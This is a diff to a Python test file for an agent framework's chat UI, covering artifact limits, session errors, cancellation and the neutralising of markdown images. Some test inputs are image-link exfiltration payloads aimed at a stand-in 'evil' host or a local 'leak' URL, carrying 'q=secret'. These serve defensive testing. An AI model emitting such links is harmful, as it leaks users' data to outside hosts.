@@ -7,6 +7,7 @@ received events, server log lines or /proc, never on fixed sleeps.
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import re
 import time
@@ -14,7 +15,7 @@ import signal
 import subprocess
 import sys
 from pathlib import Path
-from typing import Callable
+from typing import Callable, Iterator
 
 import httpx
 import pytest
@@ -33,8 +34,13 @@ from tests.ui_harness import (
 )
 
 from core import TaskWeaverApp
-from ui.files import parse_artifacts, resolve_inside, table_markdown
-from ui.lifecycle import SessionOwner
+from core.events import EventEmitter, SessionEventHandler, TaskWeaverEvent
+from core.memory import AttachmentType, Post
+from tests.llm_server import Answer, ScriptedLLMServer
+from tests.ui_harness import start_server, stop_server
+from ui.files import Artifact, neutralise_images, parse_artifacts, resolve_inside, select_artifacts, table_markdown
+from ui.lifecycle import SESSION_FAILED, SessionOwner, session_error_text
+from ui.render import AnswerDraft
 
 __all__ = ["ui_server"]
 
@@ -206,8 +212,9 @@ def test_stop_cancels_a_long_round_and_the_next_message_works(ui_server: UIServe
         client.stop()
         turn = client.wait_turn(long_id, timeout=60)
         said = answers(turn)
-        assert any("Round cancelled" in a for a in said), said
+        assert any("Round cancelled." in a and "running code was interrupted" in a for a in said), said
         assert any("cancelled" in s for s in steps(turn, "CodeInterpreter"))
+        assert not any("**Error:**" in str(m.get("output")) for m in turn), "a cancel is not an error"
         after = client.ask(code_block("print('after', 6*7)"))
     assert any("after 42" in a for a in answers(after)), answers(after)
 
@@ -341,3 +348,251 @@ def test_session_owner_grace_reconnect_and_cleared_chat(tmp_path: Path) -> None:
         asyncio.run(scenario())
     finally:
         app.stop()
+
+
+# ------------------------------------------------------------------ answers, images, artifacts, limits
+
+TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+
+
+def test_artifacts_beyond_the_cap_are_listed_by_name_not_attached(ui_server: UIServer) -> None:
+    code = (
+        "import base64\nfrom IPython.display import Image, display\n"
+        f"png = base64.b64decode({TINY_PNG!r})\n"
+        "for _ in range(23):\n    display(Image(data=png))\nprint('drawn')"
+    )
+    with ui_server.client() as client:
+        turn = client.ask(code_block(code))
+        client.ask(code_block("print('barrier')"))  # elements of the first turn have all arrived by now
+        images = [e for e in client.elements() if e.get("type") == "image"]
+    assert len(images) == 20, len(images)
+    said = "\n".join(answers(turn))
+    assert "Only the first 20 files are attached; 3 more" in said, said
+
+
+def test_select_artifacts_skips_files_over_the_size_cap(tmp_path: Path) -> None:
+    big, small = tmp_path / "big.bin", tmp_path / "small.png"
+    with open(big, "wb") as f:
+        f.truncate(26 * 1000 * 1000)  # sparse: no real 26 MB write
+    small.write_bytes(b"\x89PNG")
+    chosen = select_artifacts(
+        [Artifact("big.bin", big, "file"), Artifact("small.png", small, "image"), Artifact("again", small, "image")]
+    )
+    assert [a.name for a in chosen.shown] == ["small.png"]
+    assert len(chosen.notes) == 1 and "`big.bin` (26 MB)" in chosen.notes[0] and "over 25 MB" in chosen.notes[0]
+
+
+def test_neutralise_images_outside_code_only() -> None:
+    text = (
+        "See ![chart](http://evil/?q=secret) and [a link](http://ok).\n"
+        "Inline `![kept](x)` stays; ![ref][r] too.\n"
+        "```python\nprint('![kept](y)')\n```\n"
+        "~~~\n![kept](z)\n~~~\n"
+        "Last ![x](http://evil/2)"
+    )
+    assert neutralise_images(text) == (
+        "See [image: chart](http://evil/?q=secret) and [a link](http://ok).\n"
+        "Inline `![kept](x)` stays; [image: ref][r] too.\n"
+        "```python\nprint('![kept](y)')\n```\n"
+        "~~~\n![kept](z)\n~~~\n"
+        "Last [image: x](http://evil/2)"
+    )
+    # When unsure (escaped backticks, an unclosed span, a fence-like line with a backtick), it neutralises.
+    assert neutralise_images("\\`![a](u)\\`") == "\\`[image: a](u)\\`"
+    assert neutralise_images("`open ![a](u)") == "`open [image: a](u)"
+    assert neutralise_images("```x`y\n![a](u)") == "```x`y\n[image: a](u)"
+    assert neutralise_images("```\n![in](u)") == "```\n![in](u)"  # an unclosed fence runs to the end
+
+
+def test_printed_image_syntax_reaches_the_browser_only_as_code(ui_server: UIServer) -> None:
+    with ui_server.client() as client:
+        turn = client.ask(code_block("print('![x](http://127.0.0.1:1/x)')"))
+    shown = [str(m.get("output") or "") for m in turn]
+    assert any("![x](http://127.0.0.1:1/x)" in s for s in shown), shown
+    for text in shown:  # wherever the printed text appears, it is inside code (so kept verbatim)
+        assert neutralise_images(text) == text, text
+
+
+def test_upload_limit_follows_the_engine_limit(ui_server: UIServer) -> None:
+    settings = httpx.get(f"{ui_server.base_url}/project/settings", params={"language": "en-US"}, timeout=10).json()
+    # MAX_FILE_MB=1 in the harness: Chainlit's server counts MiB, so 1 MB decimal allows max_size_mb=1
+    # (floor of 0.95, raised to Chainlit's smallest useful value); config.toml says 95.
+    assert settings["features"]["spontaneous_file_upload"]["max_size_mb"] == 1
+
+
+class _Recorder(SessionEventHandler):
+    def __init__(self) -> None:
+        self.events: list[TaskWeaverEvent] = []
+
+    def handle(self, event: TaskWeaverEvent) -> None:
+        self.events.append(event)
+
+
+def test_answer_draft_drops_an_attempt_that_core_readdressed() -> None:
+    """Core's own event objects, emitted the way ``Role.ask_model`` handles an unusable answer."""
+    emitter, recorder = EventEmitter(), _Recorder()
+    emitter.register(recorder)
+    draft = AnswerDraft()
+    first = emitter.post_proxy("r1", Post(send_from="Planner"))
+    first.update_send_to("User")
+    first.update_message("Wrong ")
+    first.update_message("answer")
+    for event in recorder.events:
+        draft.apply(event)
+    assert draft.pending() == "Wrong answer"
+    draft.mark_shown()
+    recorder.events.clear()
+    first.update_attachment("{bad", AttachmentType.invalid_response)
+    first.error("The model's answer could not be used: not JSON")
+    first.update_send_to("Planner")
+    first.end()
+    second = emitter.post_proxy("r1", Post(send_from="Planner"))
+    second.update_message("Right")  # message before send_to: taken when the post turns to User
+    second.update_send_to("User")
+    second.update_message(" answer")
+    for event in recorder.events:
+        draft.apply(event)
+    assert draft.withdrawn and draft.text == "Right answer" and draft.pending() == "Right answer"
+    assert draft.post_id == second.post.id
+
+
+def test_a_session_that_cannot_start_is_reported_plainly(tmp_path: Path) -> None:
+    app_dir = tmp_path / "app"
+    (app_dir / "workspace").mkdir(parents=True)
+    (app_dir / "workspace" / "sessions").write_text("not a folder")  # every new session fails on an OSError
+    server = start_server(app_dir, tmp_path / "server.log")
+    try:
+        with server.client() as client:
+            said = [str(m.get("output")) for m in client.messages().values() if m.get("isError")]
+    finally:
+        stop_server(server)
+    assert said == [SESSION_FAILED], said
+    assert "could not create a Weaver session" in server.log() and str(app_dir) in server.log()
+
+
+def test_session_error_text_shows_only_core_messages(tmp_path: Path) -> None:
+    app = TaskWeaverApp(app_dir=tmp_path / "app")
+    session = app.get_session()
+    try:
+        with pytest.raises(ValueError) as bad_vars:
+            session.update_session_var("not a dict")  # type: ignore[arg-type]
+        session.stop()
+        with pytest.raises(RuntimeError) as stopped:
+            session.send_message("hi")
+    finally:
+        app.stop()
+    assert session_error_text(bad_vars.value) == str(bad_vars.value)
+    assert session_error_text(stopped.value) == str(stopped.value)
+    try:
+        raise RuntimeError(f"kernel spec in {tmp_path} is broken")  # raised outside core
+    except RuntimeError as exc:
+        assert session_error_text(exc) == SESSION_FAILED
+    try:
+        open(tmp_path / "missing" / "file")
+    except OSError as exc:
+        assert session_error_text(exc) == SESSION_FAILED
+
+
+def test_session_stops_run_on_their_own_threads() -> None:
+    """Many slow session stops at once (a shutdown) must not occupy asyncio's default executor."""
+    release = __import__("threading").Event()
+
+    class SlowSession:
+        session_id = "slow"
+        is_stopped = False
+
+        def cancel(self) -> bool:
+            return False
+
+        def stop(self) -> None:
+            release.wait(30)
+
+    async def scenario() -> None:
+        owner = SessionOwner(lambda user: SlowSession(), is_connected=lambda key: False, grace_s=0)
+        for i in range(12):
+            owner.open(f"k{i}", "u")
+        closing = asyncio.ensure_future(owner.close_all())
+        await asyncio.sleep(0)
+        # With stops in the default executor (6 workers here) this would wait for a free worker.
+        assert await asyncio.wait_for(asyncio.to_thread(lambda: 42), 5) == 42
+        release.set()
+        await asyncio.wait_for(closing, 10)
+        assert owner.live_count() == 0
+
+    asyncio.run(scenario())
+
+
+# ------------------------------------------------------------------------- against a scripted model
+
+
+def _planner_json(send_to: str, message: str, thought: str = "Thinking.", tail: str = "") -> str:
+    body = json.dumps({"thought": thought, "plan": ["answer"], "current_plan_step": "answer", "send_to": send_to, "message": message})
+    return body[:-1] + tail + "}" if tail else body
+
+
+@pytest.fixture(scope="module")
+def model_ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[UIServer, ScriptedLLMServer]]:
+    llm = ScriptedLLMServer().start()
+    root = tmp_path_factory.mktemp("weaver-ui-model")
+    env = {
+        "WEAVER_LLM__API_TYPE": "openai",
+        "WEAVER_LLM__API_BASE": llm.base_url,
+        "WEAVER_LLM__API_KEY": "test-key",
+        "WEAVER_LLM__MODEL": "test-model",
+        "WEAVER_LLM__MAX_RETRIES": "0",
+    }
+    try:
+        server = start_server(root / "app", root / "server.log", extra_env=env)
+    except BaseException:
+        llm.stop()
+        raise
+    try:
+        yield server, llm
+    finally:
+        stop_server(server)
+        llm.stop()
+
+
+def test_an_unusable_answer_streamed_to_the_user_is_withdrawn(model_ui: tuple[UIServer, ScriptedLLMServer]) -> None:
+    server, llm = model_ui
+    wrong = "FIRST ATTEMPT WRONG " * 8
+    bad = _planner_json("User", wrong, tail=', "plan": 42')  # streams send_to and message, then fails validation
+    llm.push(Answer(bad, chunks=40, delay=0.03), Answer(_planner_json("User", "SECOND ATTEMPT RIGHT"), chunks=4))
+    with server.client() as client:
+        turn = client.ask("hello")
+        shown = [d for n, d in client.events if n in ("stream_start", "new_message") and str(d.get("output")).startswith("FIRST")]
+        deleted = {d.get("id") for n, d in client.events if n == "delete_message"}
+    assert shown and shown[0]["id"] in deleted, "the first attempt should have streamed, then been withdrawn"
+    said = answers(turn)
+    assert said == ["SECOND ATTEMPT RIGHT"], said
+    planner = "\n".join(steps(turn, "Planner"))
+    assert "**Invalid response:**" in planner and "**Error:**" in planner
+
+
+def test_model_image_syntax_is_not_rendered_as_images(model_ui: tuple[UIServer, ScriptedLLMServer]) -> None:
+    server, llm = model_ui
+    message = "Done: ![x](http://127.0.0.1:9/leak?q=secret) and `![kept](code)`"
+    llm.push(Answer(_planner_json("User", message, thought="look ![t](http://127.0.0.1:9/t)"), chunks=5))
+    with server.client() as client:
+        turn = client.ask("show me")
+    said = answers(turn)
+    assert said == ["Done: [image: x](http://127.0.0.1:9/leak?q=secret) and `![kept](code)`"], said
+    planner = "\n".join(steps(turn, "Planner"))
+    assert "[image: t](http://127.0.0.1:9/t)" in planner and "![t]" not in planner
+
+
+def test_stop_during_a_model_call_says_cancelled_without_an_error(model_ui: tuple[UIServer, ScriptedLLMServer]) -> None:
+    server, llm = model_ui
+    llm.push(Answer(_planner_json("User", "A long story, word by word. " * 20), chunks=80, delay=0.05))
+    with server.client() as client:
+        long_id = client.send("tell me a story")
+        client.wait_for(lambda: any(m.get("type") == "assistant_message" for m in client.turn(long_id)), 30, "the answer to stream")
+        client.stop()
+        turn = client.wait_turn(long_id, timeout=30)
+        said = answers(turn)
+        assert any(a.startswith("Round cancelled. You can send a new message.") for a in said), said
+        assert not any("interrupted" in a for a in said), said
+        assert not any(m.get("isError") or "**Error:**" in str(m.get("output")) for m in turn), turn
+        llm.push(Answer(_planner_json("User", "Back after cancel."), chunks=3))
+        after = client.ask("still there?")
+    assert answers(after) == ["Back after cancel."]
